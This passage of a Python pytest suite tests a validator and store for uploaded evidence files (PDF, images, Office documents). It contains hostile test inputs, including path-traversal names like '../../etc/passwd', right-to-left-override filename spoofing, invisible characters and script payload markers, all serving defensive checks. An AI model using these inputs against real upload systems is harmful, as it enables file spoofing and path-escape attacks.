                          ("control", "报\x00告\r\n.pdf"), ("zero-width", "\u200b\ufeff报\u200d告.pdf"),
                          ("bare-traversal", "../../x"), ("empty", ""), ("dots", "..."), ("device", "CON.pdf"),
                          ("isolates", "\u2066\u2067\u2068x\u2069.pdf"), ("lrm", "\u200e\u200fx.pdf")]
]


@pytest.mark.parametrize("case", NEUTRALISED, ids=lambda case: case.id)
def test_hostile_name_or_payload_is_neutralised(case: Case):
    checked = check_evidence_file(case.name, case.data)
    assert checked.display_name.endswith(checked.extension)
    assert len(checked.display_name) <= 100
    assert not re.search(r"[\\/]", checked.display_name) and not INVISIBLE.search(checked.display_name)
    assert ".." not in checked.display_name.removesuffix(checked.extension)
    if checked.media_type.startswith("image/"):
        assert checked.data != case.data
        for payload in (b"<script", b"alert(", b"SecretCam", b"Main-Class", b"PK\x03\x04"):
            assert payload not in checked.data
        with Image.open(io.BytesIO(checked.data)) as image:
            image.load()
            assert not image.info.get("comment") and "icc_profile" not in image.info
            assert not image.getexif()


# -- valid files of each type ---------------------------------------------------------------------------------


def _two_frame_gif() -> bytes:
    frames = [Image.new("P", (10, 10), i) for i in (1, 2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def _docx_with_chart_and_link() -> bytes:
    return ooxml("docx", parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": real_xlsx()},
                 main_rels=[(f"{OFFICE_REL}/hyperlink", "https://www.most.gov.cn/", "External"),
                            (f"{OFFICE_REL}/hyperlink", "mailto:office@example.cn", "External"),
                            (f"{OFFICE_REL}/package", "embeddings/Microsoft_Excel_Worksheet.xlsx")])


VALID = [
    ("pdf", "报告.PDF", pdf(), "application/pdf", ".pdf"),
    ("pdf-open-destination", "报告.pdf", pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]"), "application/pdf", ".pdf"),
    ("pdf-open-destination-ref", "报告.pdf", pdf(b"[3 0 R /XYZ 0 842 0]", catalog_extra=b"/OpenAction 4 0 R"),
     "application/pdf", ".pdf"),
    ("pdf-open-destination-objstm", "报告.pdf", pdf(object_stream({5: b"[3 0 R /Fit]"}),
                                                   catalog_extra=b"/OpenAction 5 0 R"), "application/pdf", ".pdf"),
    ("pdf-objstm", "报告.pdf", pdf(object_stream({5: b"<< /Title (Progress) >>", 6: b"[1 2 3]"})), "application/pdf", ".pdf"),
    ("pdf-uri-link", "报告.pdf", pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://x.cn) >> >>"),
     "application/pdf", ".pdf"),
    ("pdf-binary-stream", "扫描件.pdf", pdf(pdf_stream(b"/Subtype /Image /Filter /DCTDecode", GOOD_JPEG * 3)),
     "application/pdf", ".pdf"),
    ("pdf-crlf-tail", "报告.pdf", pdf(tail=b"%%EOF\r\n\x00\x00"), "application/pdf", ".pdf"),
    ("png", "照片.png", GOOD_PNG, "image/png", ".png"),
    ("png-rgba", "照片.png", image_bytes("PNG", mode="RGBA"), "image/png", ".png"),
    ("jpeg", "照片.jpeg", GOOD_JPEG, "image/jpeg", ".jpg"),
    ("jpeg-exif", "照片.JPG", image_bytes("JPEG", exif=exif_block(6)), "image/jpeg", ".jpg"),
    ("jpeg-cmyk", "印刷.jpg", image_bytes("JPEG", mode="CMYK"), "image/jpeg", ".jpg"),
    ("gif", "动图.gif", GOOD_GIF, "image/png", ".png"),
    ("gif-animated", "动图.gif", _two_frame_gif(), "image/png", ".png"),
    ("gif-transparent", "图标.gif", image_bytes("GIF", mode="P", transparency=0), "image/png", ".png"),
    ("webp", "图.webp", image_bytes("WEBP"), "image/png", ".png"),
    ("bmp", "图.bmp", image_bytes("BMP"), "image/png", ".png"),
    ("tiff", "扫描.tif", image_bytes("TIFF", compression="tiff_lzw"), "image/png", ".png"),
    ("tiff-cmyk", "扫描.tiff", image_bytes("TIFF", mode="CMYK"), "image/png", ".png"),
    ("docx", "进展.docx", real_docx(), ef.DOCX_TYPE, ".docx"),
    ("docx-built", "进展.DOCX", ooxml("docx"), ef.DOCX_TYPE, ".docx"),
    ("docx-chart-and-links", "进展.docx", _docx_with_chart_and_link(), ef.DOCX_TYPE, ".docx"),
    ("docx-harmless-field", "进展.docx", docx_with_field(*field(" PAGE ")), ef.DOCX_TYPE, ".docx"),
    ("docx-word-dde-in-text", "进展.docx", docx_with_field("<w:r><w:t>DDE 农药残留检测</w:t></w:r>"),
     ef.DOCX_TYPE, ".docx"),
    ("docx-named-doc", "进展.doc", ooxml("docx"), ef.DOCX_TYPE, ".docx"),
    ("xlsx", "经费.xlsx", real_xlsx(), ef.XLSX_TYPE, ".xlsx"),
    ("xlsx-printer-settings", "经费.xlsx", ooxml("xlsx", parts={"xl/printerSettings/printerSettings1.bin": b"\x00"},
                                              defaults={"bin": "application/vnd.openxmlformats-officedocument."
                                                               "spreadsheetml.printerSettings"}),
     ef.XLSX_TYPE, ".xlsx"),
    ("pptx", "汇报.pptx", ooxml("pptx"), ef.PPTX_TYPE, ".pptx"),
]


@pytest.mark.parametrize(("name", "data", "media_type", "extension"), [v[1:] for v in VALID],
                         ids=[v[0] for v in VALID])
def test_valid_file_is_accepted(name: str, data: bytes, media_type: str, extension: str):
    checked = check_evidence_file(name, data)
    assert (checked.media_type, checked.extension) == (media_type, extension)
    assert checked.display_name.endswith(extension)
    assert checked.size == len(checked.data)
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    if media_type.startswith("image/"):
        with Image.open(io.BytesIO(checked.data)) as image:
            image.load()
            assert image.format == {"image/png": "PNG", "image/jpeg": "JPEG"}[media_type]
            assert not image.getexif() and "icc_profile" not in image.info
    else:
        assert checked.data == data  # documents are stored as uploaded


def test_stored_jpeg_has_no_exif_and_is_upright():
    source = image_bytes("JPEG", size=(40, 20), exif=exif_block(orientation=6), comment=b"secret comment")
    checked = check_evidence_file("IMG_0001.JPG", source)
    assert b"Exif" not in checked.data and b"SecretCam" not in checked.data and b"secret comment" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.size == (20, 40)  # orientation 6 applied before the metadata went
        assert not image.getexif()
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "dpi"}


def test_transparent_gif_keeps_its_transparency():
    checked = check_evidence_file("图标.gif", image_bytes("GIF", mode="P", transparency=0))
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.mode == "RGBA"


def test_pillow_pixel_limit_is_honoured(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)
    with pytest.raises(EvidenceFileRejected, match="图片像素过多"):
        check_evidence_file("小图.png", GOOD_PNG)


def test_module_pixel_limit(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(ef, "MAX_IMAGE_PIXELS", 500)
    with pytest.raises(EvidenceFileRejected, match="图片像素过多"):
        check_evidence_file("小图.jpg", GOOD_JPEG)


def test_max_bytes_is_the_caller_s():
    data = pdf(b"<< /Padding (" + b"0" * 2048 + b") >>")
    with pytest.raises(EvidenceFileRejected, match="文件超过"):
        check_evidence_file("a.pdf", data, max_bytes=1024)
    assert check_evidence_file("a.pdf", data, max_bytes=len(data)).size == len(data)


def test_reencoded_image_above_the_limit_is_refused():
    noisy = Image.effect_noise((300, 300), 120).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "WEBP", quality=10)
    with pytest.raises(EvidenceFileRejected, match="转换为PNG后超过"):
        check_evidence_file("图.webp", out.getvalue(), max_bytes=len(out.getvalue()) + 10)


def test_allowed_label_is_in_the_message_for_unknown_content():
    with pytest.raises(EvidenceFileRejected) as caught:
        check_evidence_file("notes.txt", "只是一些文字".encode())
    assert ALLOWED_LABEL in str(caught.value)


def test_zip_container_problem_is_reusable_with_other_limits():
    archive = zipfile.ZipFile(io.BytesIO(ooxml("xlsx", parts={f"xl/p{i}.xml": "<a/>" for i in range(20)})))
    limits = {"max_uncompressed_bytes": ef.MAX_UNCOMPRESSED_BYTES, "max_ratio": ef.MAX_COMPRESSION_RATIO,
              "ratio_min_bytes": ef.RATIO_CHECK_MIN_BYTES}
    assert zip_container_problem(archive, max_entries=ef.MAX_ZIP_ENTRIES, **limits) is None
    assert "上限 10" in (zip_container_problem(archive, max_entries=10, **limits) or "")


# -- display names --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "extension", "expected"), [
    ("报告.PDF", ".pdf", "报告.pdf"),
    ("a.pdf.html", ".pdf", "a.pdf"),
    ("a.jpeg.exe", ".jpg", "a.jpg"),
    ("动图.gif", ".png", "动图.png"),
    ("进展 v1.2", ".docx", "进展 v1.2.docx"),
    ("C:\\Users\\张三\\Desktop\\任务书.docx", ".docx", "任务书.docx"),
    ("../../etc/passwd", ".pdf", "passwd.pdf"),
    ("../../x", ".pdf", "x.pdf"),
    ("发票\u202efdp.exe", ".pdf", "发票fdp.pdf"),
    ("a\u200b\u200c\u200d\u2060\ufeffb.pdf", ".pdf", "ab.pdf"),
    ("  季度   进展\t报告 .pdf", ".pdf", "季度 进展 报告.pdf"),
    ("a\r\nb\x00c.pdf", ".pdf", "a bc.pdf"),
    ('a<b>:"c|d?*.pdf', ".pdf", "a_b___c_d__.pdf"),
    ("", ".pdf", "佐证材料.pdf"),
    ("\u202e\u200b", ".png", "佐证材料.png"),
    (".pdf", ".pdf", "佐证材料.pdf"),
    ("...", ".pdf", "佐证材料.pdf"),
    ("CON.pdf", ".pdf", "_CON.pdf"),
    (".htaccess", ".pdf", "htaccess.pdf"),
])
def test_safe_display_name(raw: str, extension: str, expected: str):
    assert safe_display_name(raw, extension) == expected


def test_long_name_keeps_the_extension():
    name = safe_display_name("很" * 300 + ".pdf", ".pdf")
    assert len(name) == 100 and name.endswith("很.pdf")


@settings(max_examples=300, deadline=None)
@given(raw=st.text(), extension=st.sampled_from(sorted(STORED_EXTENSIONS)))
def test_display_name_property(raw: str, extension: str):
    name = safe_display_name(raw, extension)
    assert name.endswith(extension) and len(name) <= 100
    assert not re.search(r"[\\/<>:\"|?*]", name) and not INVISIBLE.search(name)
    assert name == name.strip() and not name.startswith(".")
    assert safe_display_name(name, extension) == name  # stable: a shown name shows the same


# -- fuzz: nothing but EvidenceFileRejected ------------------------------------------------------------------

MAGICS = [b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a", b"GIF87a", b"RIFF\x00\x01\x00\x00WEBP",
          b"BM" + b"\x00" * 12 + struct.pack("<I", 40), b"II*\x00", b"MM\x00*", b"PK\x03\x04",
          b"\xd0\xcf\x11\xe0"]
SEEDS = [pdf(), pdf(object_stream({5: b"[3 0 R /Fit]"}), catalog_extra=b"/OpenAction 5 0 R"), GOOD_PNG, GOOD_JPEG,
         GOOD_GIF, image_bytes("BMP"), image_bytes("TIFF"), image_bytes("WEBP"), ooxml("docx"), ooxml("xlsx")]


def _outcome(name: str, data: bytes) -> None:
    try:
        checked = check_evidence_file(name, data)
    except EvidenceFileRejected as exc:
        assert CJK.search(str(exc))
        return
    assert isinstance(checked, CheckedFile) and checked.extension in STORED_EXTENSIONS


@pytest.mark.slow  # fuzzing
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=st.sampled_from([b"", *MAGICS]), tail=st.binary(max_size=2048), name=st.text(max_size=40))
def test_random_bytes_only_ever_raise_rejected(prefix: bytes, tail: bytes, name: str):
    _outcome(name, prefix + tail)


@pytest.mark.slow  # fuzzing
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(seed=st.sampled_from(SEEDS), data=st.data())
def test_mutated_valid_files_only_ever_raise_rejected(seed: bytes, data: st.DataObject):
    mutated = bytearray(seed)
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(mutated) - 1))
        mutated[position] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(mutated)))
    _outcome("x", bytes(mutated[:cut]))


# -- the store ------------------------------------------------------------------------------------------------


def _walk(root: Path) -> list[Path]:
    return [Path(folder, name) for folder, _dirs, names in os.walk(root) for name in names]


def test_store_layout_after_putting_the_accepted_corpus(tmp_path: Path):
    store = EvidenceStore(tmp_path / "files")
    accepted = [check_evidence_file(case.name, case.data) for case in NEUTRALISED]
    accepted += [check_evidence_file(v[1], v[2]) for v in VALID]
    names = [store.put(checked) for checked in accepted]
    assert len(set(names)) == len(names)
    root = (tmp_path / "files").resolve()
    on_disk = _walk(tmp_path)
    assert len(on_disk) == len(names)
    user_parts = {part for case in NEUTRALISED for part in re.split(r"[\\/. ]", visible_name(case.name)) if part}
    user_parts |= {checked.display_name.rsplit(".", 1)[0] for checked in accepted}
    user_parts -= {"pdf", "png", "jpg", "docx", "xlsx", "pptx", "x"}  # our own extensions; "x" is one hex-free letter
    for path in on_disk:
        resolved = path.resolve()
        assert resolved.is_relative_to(root)
        assert resolved.parent.parent == root and resolved.parent.name == resolved.name[:2]
        assert STORED_NAME.match(path.name), path
        assert path.stat().st_mode & 0o777 == 0o440
        relative = str(path.relative_to(tmp_path))
        assert not any(part in relative for part in user_parts if len(part) > 1 or not part.isascii())
    for name, checked in zip(names, accepted, strict=True):
        assert store.read(name) == checked.data
        assert store.path_of(name) == root / name[:2] / name


def test_put_never_overwrites(tmp_path: Path):
    store = EvidenceStore(tmp_path)
    checked = check_evidence_file("报告.pdf", pdf())
    first, second = store.put(checked), store.put(checked)
    assert first != second
    assert store.read(first) == store.read(second) == checked.data
    with pytest.raises(FileExistsError):
        os.open(store.path_of(first), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o440)


def test_put_draws_again_when_the_name_is_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    store = EvidenceStore(tmp_path)
    checked = check_evidence_file("报告.pdf", pdf())
    taken = store.put(checked)
    draws = iter([taken[:32], "ab" * 16])
    real = es.secrets.token_hex
    monkeypatch.setattr(es.secrets, "token_hex", lambda n=16: next(draws) if n == 16 else real(n))
    assert store.put(checked) == "ab" * 16 + ".pdf"
    assert store.read(taken) == checked.data


def test_a_crash_while_writing_leaves_nothing_under_a_final_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    store = EvidenceStore(tmp_path)

    def failing_fsync(fd: int) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(es.os, "fsync", failing_fsync)
    with pytest.raises(OSError, match="disk full"):
        store.put(check_evidence_file("报告.pdf", pdf()))
    assert _walk(tmp_path) == []


@pytest.mark.parametrize("bad", [
    "../../etc/passwd", "/etc/passwd", "ab/" + "a" * 32 + ".pdf", "A" * 32 + ".pdf", "a" * 31 + ".pdf",
    "a" * 33 + ".pdf", "a" * 32 + ".exe", "a" * 32 + ".pdf\n", "a" * 32 + ".PDF", "a" * 32, "",
    ".0123456789abcdef.part", "a" * 32 + ".pdf/..", "a" * 32 + "\x00.pdf", 12345, None,
])
def test_path_of_refuses_names_that_are_not_ours(tmp_path: Path, bad: object):
    with pytest.raises(ValueError):
        EvidenceStore(tmp_path).path_of(bad)  # type: ignore[arg-type]


def test_path_of_refuses_a_fan_out_folder_that_leads_outside(tmp_path: Path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ("ab" * 16 + ".pdf")).write_bytes(b"secret")
    root = tmp_path / "files"
    root.mkdir()
    (root / "ab").symlink_to(outside)
    with pytest.raises(ValueError):
        EvidenceStore(root).read("ab" * 16 + ".pdf")


def test_put_refuses_an_extension_it_does_not_store(tmp_path: Path):
    fake = CheckedFile(data=b"x", media_type="text/html", extension=".html", display_name="x.html",
                       sha256="0" * 64, size=1)
    with pytest.raises(ValueError):
        EvidenceStore(tmp_path).put(fake)
    assert _walk(tmp_path) == []
